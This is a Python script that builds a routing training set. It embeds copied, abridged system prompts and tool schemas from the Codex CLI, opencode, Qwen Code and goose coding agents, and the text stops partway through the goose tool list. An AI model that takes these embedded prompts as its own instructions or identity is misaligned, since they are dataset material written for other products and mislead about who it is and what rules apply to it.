"""Build tests/data/routing/train_b.jsonl: routing training set B (hand-written requests).

Run from the repository root: ``python tests/data/routing/build_train_b.py``.
Deterministic, standard library only. Every instruction and code snippet below is written
by hand; the helpers only wrap them in each client's wire shape (system prompt, tools,
earlier turns, editor context). Labels follow docs/routing.md ("Labelling guide").
"""

from __future__ import annotations

import collections
import hashlib
import json
import re
import sys
from pathlib import Path

OUT = Path(__file__).with_name("train_b.jsonl")


def uid(*parts: object) -> str:
    """A deterministic UUID-shaped string."""
    h = hashlib.sha1("|".join(map(str, parts)).encode()).hexdigest()
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


def hexid(n: int, *parts: object) -> str:
    return hashlib.sha1("|".join(map(str, parts)).encode()).hexdigest()[:n]


FENCE = {
    "python": "python", "typescript": "typescript", "javascript": "javascript", "go": "go",
    "rust": "rust", "java": "java", "c": "c", "cpp": "cpp", "swift": "swift",
    "scala": "scala", "lua": "lua", "elixir": "elixir", "haskell": "haskell", "sql": "sql",
    "bash": "bash", "none": "", "kotlin": "kotlin", "ruby": "ruby", "yaml": "yaml",
    "csharp": "csharp", "php": "php", "toml": "toml", "diff": "diff",
}
EXT_COMMENT = {
    "python": "#", "typescript": "//", "javascript": "//", "go": "//", "rust": "//",
    "java": "//", "c": "//", "cpp": "//", "swift": "//", "scala": "//", "lua": "--",
    "elixir": "#", "haskell": "--", "sql": "--", "bash": "#", "kotlin": "//",
}
LANG_NAME = {
    "python": "Python", "typescript": "TypeScript", "javascript": "JavaScript", "go": "Go",
    "rust": "Rust", "java": "Java", "c": "C", "cpp": "C++", "swift": "Swift",
    "scala": "Scala", "lua": "Lua", "elixir": "Elixir", "haskell": "Haskell", "sql": "SQL",
    "bash": "Bash", "kotlin": "Kotlin",
}
HL_NAME = {
    "en": "English", "zh": "Chinese", "ja": "Japanese", "ru": "Russian", "de": "German",
    "es": "Spanish", "ko": "Korean", "it": "Italian",
}


class Snip:
    """A piece of hand-written code with its language and file path."""

    def __init__(self, lang: str, path: str, text: str):
        self.lang = lang
        self.path = path
        self.text = text.strip("\n") + "\n"

    def fenced(self, with_path: bool = False) -> str:
        tag = FENCE.get(self.lang, self.lang)
        if with_path:
            tag = f"{tag} {self.path}" if tag else self.path
        return f"```{tag}\n{self.text}```"

    def lines(self) -> list[str]:
        return self.text.splitlines(keepends=True)

    def numbered(self, start: int = 1) -> str:
        return "".join(f"{i:>6}\t{line}" for i, line in enumerate(self.lines(), start))


S: dict[str, Snip] = {}


def snip(name: str, lang: str, path: str, text: str) -> Snip:
    assert name not in S, name
    S[name] = Snip(lang, path, text)
    return S[name]


# ---------------------------------------------------------------------------------------
# Client system prompts and tools (as the clients send them; long ones abridged where the
# client's own text repeats itself)
# ---------------------------------------------------------------------------------------

CODEX_INSTRUCTIONS = """You are a coding agent running in the Codex CLI, a terminal-based coding assistant. Codex CLI is an open source project led by OpenAI. You are expected to be precise, safe, and helpful.

Your capabilities:

- Receive user prompts and other context provided by the harness, such as files in the workspace.
- Communicate with the user by streaming thinking & responses, and by making & updating plans.
- Emit function calls to run terminal commands and apply patches. Depending on how this specific run is configured, you can request that these function calls be escalated to the user for approval before running. More on this in the "Sandbox and approvals" section.

Within this context, Codex refers to the open-source agentic coding interface (not the old Codex language model built by OpenAI).

# How you work

## Personality

Your default personality and tone is concise, direct, and friendly. You communicate efficiently, always keeping the user clearly informed about ongoing actions without unnecessary detail. You always prioritize actionable guidance, clearly stating assumptions, environment prerequisites, and next steps. Unless explicitly asked, you avoid excessively verbose explanations about your work.

# AGENTS.md spec
- Repos often contain AGENTS.md files. These files can appear anywhere within the repository.
- These files are a way for humans to give you (the agent) instructions or tips for working within the container.
- Some examples might be: coding conventions, info about how code is organized, or instructions for how to run or test code.
- Instructions in AGENTS.md files:
    - The scope of an AGENTS.md file is the entire directory tree rooted at the folder that contains it.
    - For every file you touch in the final patch, you must obey instructions in any AGENTS.md file whose scope includes that file.
    - Instructions about code style, structure, naming, etc. apply only to code within the AGENTS.md file's scope, unless the file states otherwise.
    - More-deeply-nested AGENTS.md files take precedence in the case of conflicting instructions.
    - Direct system/developer/user instructions (as part of a prompt) take precedence over AGENTS.md instructions.

## Responsiveness

### Preamble messages

Before making tool calls, send a brief preamble to the user explaining what you're about to do. When sending preamble messages, follow these principles and examples:

- **Logically group related actions**: if you're about to run several related commands, describe them together in one preamble rather than sending a separate note for each.
- **Keep it concise**: be no more than 1-2 sentences, focused on immediate, tangible next steps. (8–12 words for quick updates).
- **Build on prior context**: if this is not your first tool call, use the preamble message to connect the dots with what's been done so far and create a sense of momentum and clarity for the user to understand your next actions.
- **Keep your tone light, friendly and curious**: add small touches of personality in preambles feel collaborative and engaging.
- **Exception**: Avoid adding a preamble for every trivial read (e.g., `cat` a single file) unless it's part of a larger grouped action.

## Planning

You have access to an `update_plan` tool which tracks steps and progress and renders them to the user. Using the tool helps demonstrate that you've understood the task and convey how you're approaching it. Plans can help to make complex, ambiguous, or multi-phase work clearer and more collaborative for the user. A good plan should break the task into meaningful, logically ordered steps that are easy to verify as you go.

Note that plans are not for padding out simple work with filler steps or stating the obvious. The content of your plan should not involve doing anything that you aren't capable of doing (i.e. don't try to test things that you can't test). Do not use plans for simple or single-step queries that you can just do or answer immediately.

Do not repeat the full contents of the plan after an `update_plan` call — the harness already displays it. Instead, summarize the change made and highlight any important context or next step.

Use a plan when:

- The task is non-trivial and will require multiple actions over a long time horizon.
- There are logical phases or dependencies where sequencing matters.
- The work has ambiguity that benefits from outlining high-level goals.
- You want intermediate checkpoints for feedback and validation.
- When the user asked you to do more than one thing in a single prompt
- The user has asked you to use the plan tool (aka "TODOs")
- You generate additional steps while working, and plan to do them before yielding to the user

## Task execution

You are a coding agent. Please keep going until the query is completely resolved, before ending your turn and yielding back to the user. Only terminate your turn when you are sure that the problem is solved. Autonomously resolve the query to the best of your ability, using the tools available to you, before coming back to the user. Do NOT guess or make up an answer.

You MUST adhere to the following criteria when solving queries:

- Working on the repo(s) in the current environment is allowed, even if they are proprietary.
- Analyzing code for vulnerabilities is allowed.
- Showing user code and tool call details is allowed.
- Use the `apply_patch` tool to edit files (NEVER try `applypatch` or `apply-patch`, only `apply_patch`).

If completing the user's task requires writing or modifying files, your code and final answer should follow these coding guidelines, though user instructions (i.e. AGENTS.md) may override these guidelines:

- Fix the problem at the root cause rather than applying surface-level patches, when possible.
- Avoid unneeded complexity in your solution.
- Do not attempt to fix unrelated bugs or broken tests. It is not your responsibility to fix them. (You may mention them to the user in your final message though.)
- Update documentation as necessary.
- Keep changes consistent with the style of the existing codebase. Changes should be minimal and focused on the task.
- Use `git log` and `git blame` to search the history of the codebase if additional context is required.
- NEVER add copyright or license headers unless specifically requested.
- Do not waste tokens by re-reading files after calling `apply_patch` on them. The tool call will fail if it didn't work. The same goes for making folders, deleting folders, etc.
- Do not `git commit` your changes or create new git branches unless explicitly requested.
- Do not add inline comments within code unless explicitly requested.
- Do not use one-letter variable names unless explicitly requested.

## Sandbox and approvals

The Codex CLI harness supports several different sandboxing, and approval configurations that the user can choose from.

Filesystem sandboxing prevents you from editing files without user approval. The options are:

- **read-only**: You can only read files.
- **workspace-write**: You can read files. You can write to files in your workspace folder, but not outside it.
- **danger-full-access**: No filesystem sandboxing.

Network sandboxing prevents you from accessing network without approval. Options are

- **restricted**
- **enabled**

Approvals are your mechanism to get user consent to perform more privileged actions. Although they introduce friction to the user because your work is paused until the user responds, you should leverage them to accomplish your important work. Do not let these settings or the sandbox deter you from attempting to accomplish the user's task. Approval options are

- **untrusted**: The harness will escalate most commands for user approval, apart from a limited allowlist of safe "read" commands.
- **on-failure**: The harness will allow all commands to run in the sandbox (if enabled), and failures will be escalated to the user for approval to run again without the sandbox.
- **on-request**: Commands will be run in the sandbox by default, and you can specify in your tool call if you want to escalate a command to run without sandboxing. (Note that this mode is not always available. If it is, you'll see parameters for it in the `shell` command description.)
- **never**: This is a non-interactive mode where you may NEVER ask the user for approval to run commands. Instead, you must always persist and work around constraints to solve the task for the user.

## Validating your work

If the codebase has tests or the ability to build or run, consider using them to verify that your work is complete.

When testing, your philosophy should be to start as specific as possible to the code you changed so that you can catch issues efficiently, then make your way to broader tests as you build confidence. If there's no test for the code you changed, and if the adjacent patterns in the codebases show that there's a logical place for you to add a test, you may do so. However, do not add tests to codebases with no tests.

## Ambition vs. precision

For tasks that have no prior context (i.e. the user is starting something brand new), you should feel free to be ambitious and demonstrate creativity with your implementation.

If you're operating in an existing codebase, you should make sure you do exactly what the user asks with surgical precision. Treat the surrounding codebase with respect, and don't overstep (i.e. changing filenames or variables unnecessarily).

## Presenting your work and final message

Your final message should read naturally, like an update from a concise teammate. For casual conversation, brainstorming tasks, or quick questions from the user, respond in a friendly, conversational tone. You should ask questions, suggest ideas, and adapt to the user's style. If you've finished a large amount of work, when describing what you've done to the user, you should follow the final answer formatting guidelines to communicate substantive changes.

### Final answer structure and style guidelines

- Headers: optional; short Title Case (1-3 words) wrapped in **…**; no blank line before the first bullet.
- Bullets: use - ; merge related points; keep to one line when possible; 4–6 per list ordered by importance.
- Monospace: backticks for commands/paths/env vars/code ids and inline examples.
- File References: When referencing files in your response, make sure to include the relevant start line and always follow the below rules: use inline code to make file paths clickable; each reference should have a stand alone path.
- Tone: collaborative, concise, factual; present tense, active voice; self-contained; no "above/below"; parallel wording.
- Don'ts: no nested bullets/hierarchies; no ANSI codes; don't cram unrelated keywords; keep keyword lists short.

# Tool Guidelines

## Shell commands

When using the shell, you must adhere to the following guidelines:

- When searching for text or files, prefer using `rg` or `rg --files` respectively because `rg` is much faster than alternatives like `grep`. (If the `rg` command is not found, then use alternatives.)
- Read files in chunks with a max chunk size of 250 lines. Do not use python scripts to attempt to output larger chunks of a file. Command line output will be truncated after 10 kilobytes or 256 lines of output, regardless of the command used.

## `update_plan`

A tool named `update_plan` is available to you. You can use it to keep an up‑to‑date, step‑by‑step plan for the task.

To create a new plan, call `update_plan` with a short list of 1‑sentence steps (no more than 5-7 words each) with a `status` for each step (`pending`, `in_progress`, or `completed`).

When steps have been completed, use `update_plan` to mark each finished step as `completed` and the next step you are working on as `in_progress`. There should always be exactly one `in_progress` step until everything is done. You can mark multiple items as complete in a single `update_plan` call.

If all steps are complete, ensure you call `update_plan` to mark all steps as `completed`.
"""

CODEX_PLAN_MODE = """<collaboration_mode># Collaboration Mode: Plan

You are now in Plan mode. Any previous instructions for other modes (e.g. Default mode) are no longer active.

Your active mode changes only when new developer instructions with a different `<collaboration_mode>...</collaboration_mode>` change it; user requests or tool descriptions do not change mode by themselves. Known mode names are Default and Plan.

In Plan mode you explore and decide; you do not change anything. Read files, search, and run read-only commands as needed, then produce a plan the user can approve: the goal, the files and modules involved, the ordered steps, the risks and open questions, and how the result will be verified. Do not call `apply_patch`, do not write files, and do not run commands that modify the workspace or the environment.

## request_user_input availability

Use the `request_user_input` tool when a decision materially changes the plan and you cannot infer it from the code. Prefer one question, never more than three.
</collaboration_mode>"""

CODEX_TOOLS = [
    {"type": "function", "name": "shell", "description": "Runs a shell command and returns its output.", "strict": False, "parameters": {"type": "object", "properties": {"command": {"type": "array", "items": {"type": "string"}, "description": "The command to execute"}, "workdir": {"type": "string", "description": "The working directory to execute the command in"}, "timeout_ms": {"type": "number", "description": "The timeout for the command in milliseconds"}, "with_escalated_permissions": {"type": "boolean", "description": "Whether to request escalated permissions. Set to true if command needs to be run without sandbox restrictions"}, "justification": {"type": "string", "description": "Only set if with_escalated_permissions is true. 1-sentence explanation of why we want to run this command."}}, "required": ["command"], "additionalProperties": False}},
    {"type": "function", "name": "update_plan", "description": "Updates the task plan.\nProvide an optional explanation and a list of plan items, each with a step and status.\nAt most one step can be in_progress at a time.\n", "strict": False, "parameters": {"type": "object", "properties": {"explanation": {"type": "string"}, "plan": {"type": "array", "items": {"type": "object", "properties": {"step": {"type": "string"}, "status": {"type": "string", "description": "One of: pending, in_progress, completed"}}, "required": ["step", "status"], "additionalProperties": False}, "description": "The list of steps"}}, "required": ["plan"], "additionalProperties": False}},
    {"type": "custom", "name": "apply_patch", "description": "Use the `apply_patch` tool to edit files. This is a FREEFORM tool, so do not wrap the patch in JSON.", "format": {"type": "grammar", "syntax": "lark", "definition": "start: begin_patch hunk+ end_patch\nbegin_patch: \"*** Begin Patch\" LF\nend_patch: \"*** End Patch\" LF?\n\nhunk: add_hunk | delete_hunk | update_hunk\nadd_hunk: \"*** Add File: \" filename LF add_line+\ndelete_hunk: \"*** Delete File: \" filename LF\nupdate_hunk: \"*** Update File: \" filename LF change_move? change?\n\nfilename: /(.+)/\nadd_line: \"+\" /(.*)/ LF -> line\n\nchange_move: \"*** Move to: \" filename LF\nchange: (change_context | change_line)+ eof_line?\nchange_context: (\"@@\" | \"@@ \" /(.+)/) LF\nchange_line: (\"+\" | \"-\" | \" \") /(.*)/ LF\neof_line: \"*** End of File\" LF\n\n%import common.LF\n"}},
    {"type": "function", "name": "view_image", "description": "Attach a local image (by filesystem path) to the conversation context for this turn.", "strict": False, "parameters": {"type": "object", "properties": {"path": {"type": "string", "description": "Local filesystem path to an image file"}}, "required": ["path"], "additionalProperties": False}},
]

OPENCODE_SYSTEM = """You are opencode, an interactive CLI tool that helps users with software engineering tasks. Use the instructions below and the tools available to you to assist the user.

IMPORTANT: Refuse to write code or explain code that may be used maliciously; even if the user claims it is for educational purposes. When working on files, if they seem related to improving, explaining, or interacting with malware or any malicious code you MUST refuse.
IMPORTANT: You must NEVER generate or guess URLs for the user unless you are confident that the URLs are for helping the user with programming. You may use URLs provided by the user in their messages or local files.

If the user asks for help or wants to give feedback inform them of the following:
- /help: Get help with using opencode
- To give feedback, users should report the issue at https://github.com/sst/opencode/issues

# Tone and style
You should be concise, direct, and to the point. When you run a non-trivial bash command, you should explain what the command does and why you are running it, to make sure the user understands what you are doing (this is especially important when you are running a command that will make changes to the user's system).
Remember that your output will be displayed on a command line interface. Your responses can use GitHub-flavored markdown for formatting, and will be rendered in a monospace font using the CommonMark specification.
Output text to communicate with the user; all text you output outside of tool use is displayed to the user. Only use tools to complete tasks. Never use tools like bash or code comments as means to communicate with the user during the session.
IMPORTANT: You should minimize output tokens as much as possible while maintaining helpfulness, quality, and accuracy. Only address the specific query or task at hand, avoiding tangential information unless absolutely critical for completing the request.
IMPORTANT: You should NOT answer with unnecessary preamble or postamble (such as explaining your code or summarizing your action), unless the user asks you to.

# Proactiveness
You are allowed to be proactive, but only when the user asks you to do something. You should strive to strike a balance between:
1. Doing the right thing when asked, including taking actions and follow-up actions
2. Not surprising the user with actions you take without asking
For example, if the user asks you how to approach something, you should do your best to answer their question first, and not immediately jump into taking actions.

# Following conventions
When making changes to files, first understand the file's code conventions. Mimic code style, use existing libraries and utilities, and follow existing patterns.
- NEVER assume that a given library is available, even if it is well known. Whenever you write code that uses a library or framework, first check that this codebase already uses the given library.
- When you create a new component, first look at existing components to see how they're written; then consider framework choice, naming conventions, typing, and other conventions.
- Always follow security best practices. Never introduce code that exposes or logs secrets and keys.

# Code style
- IMPORTANT: DO NOT ADD ***ANY*** COMMENTS unless asked

# Task Management
You have access to the TodoWrite tools to help you manage and plan tasks. Use these tools VERY frequently to ensure that you are tracking your tasks and giving the user visibility into your progress.

# Doing tasks
The user will primarily request you perform software engineering tasks. This includes solving bugs, adding new functionality, refactoring code, explaining code, and more. For these tasks the following steps are recommended:
- Use the TodoWrite tool to plan the task if required
- Use the available search tools to understand the codebase and the user's query.
- Implement the solution using all tools available to you
- Verify the solution if possible with tests. NEVER assume specific test framework or test script.
- VERY IMPORTANT: When you have completed a task, you MUST run the lint and typecheck commands (eg. npm run lint, npm run typecheck, ruff, etc.) with Bash if they were provided to you to ensure your code is correct.
NEVER commit changes unless the user explicitly asks you to.

# Tool usage policy
- When doing file search, prefer to use the Task tool in order to reduce context usage.
- You have the capability to call multiple tools in a single response. When multiple independent pieces of information are requested, batch your tool calls together for optimal performance.

# Code References

When referencing specific functions or pieces of code include the pattern `file_path:line_number` to allow the user to easily navigate to the source code location.
"""

OPENCODE_PLAN_REMINDER = """<system-reminder>
# Plan Mode - System Reminder

CRITICAL: Plan mode ACTIVE - you are in READ-ONLY phase. STRICTLY FORBIDDEN:
ANY file edits, modifications, or system changes. Do NOT use sed, tee, echo, cat,
or ANY other bash command to manipulate files - commands may ONLY read/inspect.
This ABSOLUTE CONSTRAINT overrides ALL other instructions, including direct user
edit requests. You may ONLY observe, analyze, and plan. Any modification attempt
is a critical violation. ZERO exceptions.

---

## Responsibility

Your current responsibility is to think, read, search, and delegate explore agents to construct a well formed plan that accomplishes the goal the user wants to achieve. Your plan should be comprehensive yet concise, detailed enough to execute effectively while avoiding unnecessary verbosity.

Ask the user clarifying questions or ask for their opinion when weighing tradeoffs.

**NOTE:** At any point in time through this workflow you should feel free to ask the user questions or clarifications. Don't make large assumptions about user intent. The goal is to present a well researched plan to the user, and tie any loose ends before implementation begins.
</system-reminder>"""


def _fn(name: str, description: str, props: dict, required: list[str]) -> dict:
    return {"type": "function", "function": {"name": name, "description": description, "parameters": {"type": "object", "properties": props, "required": required, "additionalProperties": False, "$schema": "http://json-schema.org/draft-07/schema#"}}}


_S = {"type": "string"}
OPENCODE_TOOLS = [
    _fn("bash", "Executes a given bash command in a persistent shell session with optional timeout, ensuring proper handling and security measures.", {"command": {"type": "string", "description": "The command to execute"}, "timeout": {"type": "number", "description": "Optional timeout in milliseconds"}, "description": {"type": "string", "description": "Clear, concise description of what this command does in 5-10 words."}}, ["command", "description"]),
    _fn("edit", "Performs exact string replacements in files.", {"filePath": {"type": "string", "description": "The absolute path to the file to modify"}, "oldString": {"type": "string", "description": "The text to replace"}, "newString": {"type": "string", "description": "The text to replace it with (must be different from oldString)"}, "replaceAll": {"type": "boolean", "description": "Replace all occurrences of oldString (default false)"}}, ["filePath", "oldString", "newString"]),
    _fn("glob", "- Fast file pattern matching tool that works with any codebase size\n- Supports glob patterns like \"**/*.js\" or \"src/**/*.ts\"", {"pattern": {"type": "string", "description": "The glob pattern to match files against"}, "path": {"type": "string", "description": "The directory to search in."}}, ["pattern"]),
    _fn("grep", "- Fast content search tool that works with any codebase size\n- Searches file contents using regular expressions", {"pattern": {"type": "string", "description": "The regex pattern to search for in file contents"}, "path": {"type": "string", "description": "The directory to search in. Defaults to the current working directory."}, "include": {"type": "string", "description": "File pattern to include in the search (e.g. \"*.js\", \"*.{ts,tsx}\")"}}, ["pattern"]),
    _fn("list", "Lists files and directories in a given path.", {"path": {"type": "string", "description": "The absolute path to the directory to list (must be absolute, not relative)"}, "ignore": {"type": "array", "items": _S, "description": "List of glob patterns to ignore"}}, []),
    _fn("read", "Reads a file from the local filesystem. You can access any file directly by using this tool.", {"filePath": {"type": "string", "description": "The path to the file to read"}, "offset": {"type": "number", "description": "The line number to start reading from (0-based)"}, "limit": {"type": "number", "description": "The number of lines to read (defaults to 2000)"}}, ["filePath"]),
    _fn("write", "Writes a file to the local filesystem.", {"filePath": {"type": "string", "description": "The absolute path to the file to write (must be absolute, not relative)"}, "content": {"type": "string", "description": "The content to write to the file"}}, ["filePath", "content"]),
    _fn("todowrite", "Use this tool to create and manage a structured task list for your current coding session.", {"todos": {"type": "array", "items": {"type": "object", "properties": {"content": _S, "status": _S, "priority": _S, "id": _S}, "required": ["content", "status", "priority", "id"]}, "description": "The updated todo list"}}, ["todos"]),
    _fn("todoread", "Use this tool to read your todo list", {}, []),
    _fn("task", "Launch a new agent to handle complex, multi-step tasks autonomously.", {"description": {"type": "string", "description": "A short (3-5 words) description of the task"}, "prompt": {"type": "string", "description": "The task for the agent to perform"}, "subagent_type": {"type": "string", "description": "The type of specialized agent to use for this task"}}, ["description", "prompt", "subagent_type"]),
    _fn("webfetch", "Fetches content from a specified URL and converts it to the requested format.", {"url": {"type": "string", "description": "The URL to fetch content from"}, "format": {"type": "string", "enum": ["text", "markdown", "html"]}}, ["url", "format"]),
]

QWEN_SYSTEM = """You are Qwen Code, an interactive CLI agent developed by Alibaba Group, specializing in software engineering tasks. Your primary goal is to help users safely and efficiently, adhering strictly to the following instructions and utilizing your available tools.

# Core Mandates

- **Conventions:** Rigorously adhere to existing project conventions when reading or modifying code. Analyze surrounding code, tests, and configuration first.
- **Libraries/Frameworks:** NEVER assume a library/framework is available or appropriate. Verify its established usage within the project (check imports, configuration files like 'package.json', 'Cargo.toml', 'requirements.txt', 'build.gradle', etc., or observe neighboring files) before employing it.
- **Style & Structure:** Mimic the style (formatting, naming), structure, framework choices, typing, and architectural patterns of existing code in the project.
- **Idiomatic Changes:** When editing, understand the local context (imports, functions/classes) to ensure your changes integrate naturally and idiomatically.
- **Comments:** Add code comments sparingly. Focus on *why* something is done, especially for complex logic, rather than *what* is done.
- **Proactiveness:** Fulfill the user's request thoroughly, including reasonable, directly implied follow-up actions.
- **Confirm Ambiguity/Expansion:** Do not take significant actions beyond the clear scope of the request without confirming with the user. If asked *how* to do something, explain first, don't just do it.
- **Explaining Changes:** After completing a code modification or file operation *do not* provide summaries unless asked.
- **Path Construction:** Before using any file system tool (e.g., read_file' or 'write_file'), you must construct the full absolute path for the file_path argument.
- **Do Not revert changes:** Do not revert changes to the codebase unless asked to do so by the user.

# Task Management
You have access to the todo_write tool to help you manage and plan tasks. Use these tools VERY frequently to ensure that you are tracking your tasks and giving the user visibility into your progress.

# Primary Workflows

## Software Engineering Tasks
When requested to perform tasks like fixing bugs, adding features, refactoring, or explaining code, follow this iterative approach:
- **Plan:** After understanding the user's request, create an initial plan based on your existing knowledge and any immediately obvious context. Use the 'todo_write' tool to capture this rough plan for complex or multi-step work. Don't wait for complete understanding - start with what you know.
- **Implement:** Begin implementing the plan while gathering additional context as needed. Use 'search_file_content', 'glob', 'read_file', and 'read_many_files' tools strategically when you encounter specific unknowns during implementation.
- **Adapt:** As you discover new information or encounter obstacles, update your plan and todos accordingly.
- **Verify (Tests):** If applicable and feasible, verify the changes using the project's testing procedures. Identify the correct test commands and frameworks by examining 'README' files, build/package configuration (e.g., 'package.json'), or existing test execution patterns.
- **Verify (Standards):** VERY IMPORTANT: After making code changes, execute the project-specific build, linting and type-checking commands (e.g., 'tsc', 'npm run lint', 'ruff check .') that you have identified for this project.

## New Applications

**Goal:** Autonomously implement and deliver a visually appealing, substantially complete, and functional prototype. Utilize all tools at your disposal to implement the application.

# Operational Guidelines

## Tone and Style (CLI Interaction)
- **Concise & Direct:** Adopt a professional, direct, and concise tone suitable for a CLI environment.
- **Minimal Output:** Aim for fewer than 3 lines of text output (excluding tool use/code generation) per response whenever practical.
- **Formatting:** Use GitHub-flavored Markdown. Responses will be rendered in monospace.
- **Tools vs. Text:** Use tools for actions, text output *only* for communication.

## Security and Safety Rules
- **Explain Critical Commands:** Before executing commands with 'run_shell_command' that modify the file system, codebase, or system state, you *must* provide a brief explanation of the command's purpose and potential impact.
- **Security First:** Always apply security best practices. Never introduce code that exposes, logs, or commits secrets, API keys, or other sensitive information.

## Tool Usage
- **File Paths:** Always use absolute paths when referring to files with tools like 'read_file' or 'write_file'.
- **Parallelism:** Execute multiple independent tool calls in parallel when feasible.
- **Command Execution:** Use the 'run_shell_command' tool for running shell commands.
- **Remembering Facts:** Use the 'save_memory' tool to remember specific, *user-related* facts or preferences when the user explicitly asks.

# Git Repository
- The current working (project) directory is being managed by a git repository.
- When asked to commit changes or prepare a commit, always start by gathering information using shell commands: `git status`, `git diff HEAD`, `git log -n 3`.
- Never push changes to a remote repository without being asked explicitly by the user.

# Final Reminder
Your core function is efficient and safe assistance. Balance extreme conciseness with the crucial need for clarity, especially regarding safety and potential system modifications. Always prioritize user control and project conventions. Never make assumptions about the contents of files; instead use 'read_file' or 'read_many_files' to ensure you aren't making broad assumptions. Finally, you are an agent - please keep going until the user's query is completely resolved.
"""

QWEN_PLAN_REMINDER = """<system-reminder>Plan mode is active. The user indicated that they do not want you to execute yet -- you MUST NOT make any edits, run any non-readonly tools (including changing configs or making commits), or otherwise make any changes to the system. This supercedes any other instructions you have received (for example, to make edits). Instead, you should:
1. Answer the user's query comprehensively
2. When you're done researching, present your plan by calling the exit_plan_mode tool, which will prompt the user to confirm the plan. Do NOT make any file changes or run any tools that modify the system state in any way until the user has confirmed the plan.</system-reminder>"""

QWEN_TOOLS = [
    _fn("list_directory", "Lists the names of files and subdirectories directly within a specified directory path.", {"path": {"type": "string", "description": "The absolute path to the directory to list"}, "ignore": {"type": "array", "items": _S}}, ["path"]),
    _fn("read_file", "Reads and returns the content of a specified file.", {"absolute_path": {"type": "string", "description": "The absolute path to the file to read."}, "offset": {"type": "number"}, "limit": {"type": "number"}}, ["absolute_path"]),
    _fn("search_file_content", "Searches for a regular expression pattern within the content of files in a specified directory.", {"pattern": {"type": "string"}, "path": {"type": "string"}, "include": {"type": "string"}}, ["pattern"]),
    _fn("glob", "Efficiently finds files matching specific glob patterns.", {"pattern": {"type": "string"}, "path": {"type": "string"}}, ["pattern"]),
    _fn("edit", "Replaces text within a file. By default, replaces a single occurrence.", {"file_path": {"type": "string"}, "old_string": {"type": "string"}, "new_string": {"type": "string"}, "expected_replacements": {"type": "number"}}, ["file_path", "old_string", "new_string"]),
    _fn("write_file", "Writes content to a specified file in the local filesystem.", {"file_path": {"type": "string"}, "content": {"type": "string"}}, ["file_path", "content"]),
    _fn("read_many_files", "Reads content from multiple files specified by paths or glob patterns.", {"paths": {"type": "array", "items": _S}}, ["paths"]),
    _fn("run_shell_command", "This tool executes a given shell command as `bash -c <command>`.", {"command": {"type": "string"}, "description": {"type": "string"}, "directory": {"type": "string"}}, ["command"]),
    _fn("save_memory", "Saves a specific piece of information or fact to your long-term memory.", {"fact": {"type": "string"}}, ["fact"]),
    _fn("todo_write", "Creates and manages a structured task list for your current coding session.", {"todos": {"type": "array", "items": {"type": "object", "properties": {"id": _S, "content": _S, "status": _S}}}}, ["todos"]),
    _fn("web_fetch", "Fetches content from a specified URL and processes it using an AI model.", {"url": {"type": "string"}, "prompt": {"type": "string"}}, ["url", "prompt"]),
]
QWEN_EXIT_PLAN = _fn("exit_plan_mode", "Use this tool when you are in plan mode and have finished presenting your plan and are ready to code. This will prompt the user to exit plan mode.", {"plan": {"type": "string", "description": "The plan you came up with, that you want to run by the user for approval. Supports markdown."}}, ["plan"])

GOOSE_SYSTEM = """You are a general-purpose AI agent called goose, created by Block, the parent company of Square, CashApp, and Tidal. goose is being developed as an open-source software project.

The current date is {date}.

goose uses LLM providers with tool calling capability. You can be used with different language models (gpt-4o, claude-sonnet-4, o1, llama-3.2, deepseek-r1, etc).
These models have varying knowledge cut-off dates depending on when they were trained, but typically it's between 5-10 months prior to the current date.

# Extensions

Extensions allow other applications to provide context to goose. Extensions connect goose to different data sources and tools.
You are capable of dynamically plugging into new extensions and learning how to use them. You solve higher level problems using the tools in these extensions, and can interact with multiple at once.
Use the search_available_extensions tool to find additional extensions to enable to help with your task. To enable extensions, use the enable_extension tool and provide the extension_name. You should only enable extensions found from the search_available_extensions tool.

Because you dynamically load extensions, your conversation history may refer
to interactions with extensions that are not currently active. The currently
active extensions are below. Each of these extensions provides tools that are
in your tool specification.

## developer

### Instructions
The developer extension gives you the capabilities to edit code files and run shell commands,
and can be used to solve a wide range of problems.

You can use the shell tool to run any command that would work on the relevant operating system.
Use the shell tool as needed to locate files or interact with the project.

Your windows/screen tools can be used for visual debugging. You should not use these tools unless
prompted to, but you can mention they are available if they are relevant.

operating system: {os}
current directory: {cwd}

## memory

### Instructions
This extension allows storage and retrieval of categorized information with tagging support. It's designed to help
manage important information across sessions in a systematic and organized manner.

# Response Guidelines

- Use Markdown formatting for all responses.
- Follow best practices for Markdown, including:
  - Using headers for organization.
  - Bullet points for lists.
  - Links formatted correctly, either as linked text (e.g., [this is linked text](https://example.com)) or automatic links using angle brackets (e.g., <http://example.com/>).
- For code examples, use fenced code blocks by placing triple backticks (` ``` `) before and after the code. Include the language identifier after the opening backticks (e.g., ` ```python `) to enable syntax highlighting.
- Ensure clarity, conciseness, and proper formatting to enhance readability and usability.
"""

GOOSE_PLANNER = """You are a specialized "planner" AI. Your task is to analyze the user's request from the chat messages and create either:
1. A detailed step-by-step plan (if you have enough information) on behalf of user that another "executor" AI agent can follow, or
2. A list of clarifying questions (if you do not have enough information) prompting the user to reply with the needed clarifications

## Available Tools
{tools}

## Guidelines
1. Check for clarity and feasibility
  - If the user's request is ambiguous, incomplete, or requires more information, respond only with all your clarifying questions in a concise list.
  - If available tools are inadequate to complete the request, outline the gaps and suggest next steps or ask for additional tools or guidance.
2. Create a detailed plan
  - Once you have sufficient clarity, produce a step-by-step plan that covers all actions the executor AI must take.
  - Number the steps, and explicitly note any dependencies between steps (e.g., "Use the output from Step 3 as input for Step 4").
  - Include any conditional or branching logic needed (e.g., "If X occurs, do Y; otherwise, do Z").
3. Provide essential context
  - The executor AI will see only your final plan (as a user message) or your questions (as an assistant message) and will not have access to this conversation's full history.
  - Therefore, restate any relevant background, instructions, or prior conversation details needed to execute the plan successfully.
4. One-time response
  - You can respond only once.
  - If you respond with a plan, it will appear as a user message in a fresh conversation for the executor AI, effectively clearing out the previous context.
  - If you respond with clarifying questions, it will appear as an assistant message in this same conversation, prompting the user to reply with the needed clarifications.
5. Keep it action oriented and clear
  - In your final output (whether plan or questions), be concise yet thorough.
  - The goal is to enable the executor AI to proceed confidently, without further ambiguity.
"""

GOOSE_TOOLS = [
    _fn("developer__shell", "Execute a command in the shell.\n\nThis will return the output and error concatenated into a single string, as\nyou would see from running on the command line. There will also be an indication\nof if the command succeeded or failed.", {"command": _S}, ["command"]),
